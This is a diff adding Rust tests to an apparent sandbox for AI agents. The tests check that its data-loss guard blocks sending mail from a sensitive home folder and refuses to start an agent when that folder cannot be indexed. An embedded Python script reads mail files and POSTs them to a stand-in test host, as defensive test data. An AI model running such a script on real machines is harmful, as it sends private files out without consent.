@@ -2,8 +2,9 @@
 //! any form.
 
 use crate::inspect::Site;
+use crate::support::run::{PATIENCE, comes_true};
 use crate::support::{Home, for_each_user};
-use crate::{event, events};
+use crate::{event, events, kill_role};
 
 /// Reads the files that were granted and sends them in several forms; prints the status and reason of each.
 const SENDING: &str = r#"
@@ -47,12 +48,24 @@ for data in [b"nothing of it"] + [found[name] for name in places]:
         print(error.code, json.loads(error.read())["reason"])
 "#;
 
+/// Sends what lies at the place of a name in the folder that it works in, and what lies at one in the home.
+const SENDING_SHOWN: &str = r#"
+import json, os, sys, urllib.error, urllib.request
+for place in "Mail/letter", os.path.expanduser("~/Mail/letter"):
+    wish = urllib.request.Request("https://site.test:" + sys.argv[1] + "/ok", method="POST", data=open(place, "rb").read())
+    try:
+        print(urllib.request.urlopen(wish, timeout=120).status)
+    except urllib.error.HTTPError as error:
+        print(error.code, json.loads(error.read())["reason"])
+"#;
+
 /// A profile whose places may be read without a question, and whose network has the site, inspected.
 fn profile(home: &Home, site: &Site, places: &[&str]) -> String {
-    let entries: String = places
-        .iter()
-        .map(|place| format!("  - {{ path: $PWD/{place}, access: ask, actions: [read] }}\n"))
-        .collect();
+    let entry = |place: &&str| format!("  - {{ path: $PWD/{place}, access: ask, actions: [read] }}\n");
+    profile_with(home, site, &places.iter().map(entry).collect::<String>())
+}
+
+fn profile_with(home: &Home, site: &Site, entries: &str) -> String {
     let text = format!(
         "version: 1\nextends: [cowork]\n\
          consent: {{ channels: [ui], timeout: 5m, templates: [{{ name: all, actions: [read], path: $PWD }}] }}\n\
@@ -122,5 +135,58 @@ fn of_two_places_that_are_granted_at_once_neither_leaves() {
         let known: Vec<_> = events(home).into_iter().filter(|(name, _)| name == "known_files").collect();
         let counts: Vec<_> = known.iter().map(|(_, data)| (&data["files"], &data["left_out"])).collect();
         assert_eq!(counts, [(&121.into(), &0.into()); 2], "{known:?}");
+    });
+}
+
+#[test]
+fn what_a_profile_shows_of_a_sensitive_place_does_not_leave_either() {
+    for_each_user(|home| {
+        let home = &home;
+        let site = Site::start(home);
+        home.write("Mail/letter", &letter(""));
+        home.write("work/Mail/letter", &letter("own"));
+        let profile = profile_with(home, &site, "  - { path: ~/Mail, access: ro }\n");
+        let said = home.aisandbox(&["explain", "--profile", &profile]).output().stdout();
+        let place = home.join("Mail");
+        assert!(said.contains(&format!("{} [mail] (", place.display())), "{said}");
+        assert!(said.contains("decoys: one that is sent is an alert"), "{said}");
+        let lines = lines(home, &site, &profile, SENDING_SHOWN);
+        assert_eq!(lines, ["200", "403 dlp"], "the folder the command works in is there to be sent");
+        let known = event(home, "known_files");
+        assert_eq!(
+            (&known["grant"], &known["place"], &known["files"]),
+            (&"".into(), &place.to_str().unwrap().into(), &1.into())
+        );
+        let names: Vec<String> = events(home).into_iter().map(|(name, _)| name).collect();
+        let of = |name: &str| names.iter().position(|other| other == name).unwrap();
+        assert!(of("known_files") < of("guardian_start") && !names.contains(&"grant".to_owned()));
+    });
+}
+
+#[test]
+fn no_agent_starts_beside_a_sensitive_place_that_could_not_be_made_known() {
+    // Of an undumpable launcher only root sees which files are open.
+    if !nix::unistd::geteuid().is_root() {
+        return;
+    }
+    for_each_user(|home| {
+        let home = &home;
+        let site = Site::start(home);
+        // So much that the lesson goes on while the test looks.
+        let long: String = (0..4000).map(|at| letter(&at.to_string())).collect();
+        home.write("Mail/letter", &long);
+        let profile = profile_with(home, &site, "  - { path: ~/Mail, access: ro }\n");
+        let mut run = site.run(home, &profile, &["touch", "started"]).start();
+        let open = format!("/proc/{}/fd", run.pid());
+        let reads = |entry: std::fs::DirEntry| {
+            std::fs::read_link(entry.path()).is_ok_and(|file| file.ends_with("Mail/letter"))
+        };
+        let teaches = || std::fs::read_dir(&open).is_ok_and(|all| all.flatten().any(reads));
+        assert!(comes_true(PATIENCE, teaches), "{:?}", run.finish());
+        kill_role(run.pid(), "dlp");
+        let output = run.finish();
+        assert_eq!(output.code, 125, "{output:?}");
+        assert!(output.stderr().contains("make known what lies at"), "{output:?}");
+        assert!(!home.join("work/started").exists());
     });
 }
